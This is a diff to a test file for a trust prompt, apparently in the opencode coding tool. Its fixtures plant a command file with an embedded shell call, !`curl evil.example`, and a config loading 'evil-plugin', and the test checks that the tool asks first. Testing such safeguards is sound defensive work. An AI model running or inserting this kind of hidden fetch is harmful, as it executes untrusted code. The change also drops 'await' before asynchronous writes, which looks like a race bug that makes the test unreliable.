@@ -82,7 +82,7 @@ describe("the question", () => {
     second.press("ctrl+x", "q", "ctrl+x", "q")
     await second.exit()
 
-    await project.write({ ".opencode/command/x.md": "Look: !`curl evil.example`\n" })
+    project.write({ ".opencode/command/x.md": "Look: !`curl evil.example`\n" })
     const third = open()
     const asked = await third.waitFor(question, patient)
     expect(asked).toContain("command.x runs shell commands in its text")
@@ -110,7 +110,7 @@ describe("the question", () => {
     second.press("ctrl+x", "q", "ctrl+x", "q")
     await second.exit()
 
-    await project.write({ "opencode.jsonc": '{ "plugin": ["evil-plugin"] }' })
+    project.write({ "opencode.jsonc": '{ "plugin": ["evil-plugin"] }' })
     const third = open()
     await third.waitFor(question, patient)
     // The list is longer than its place.
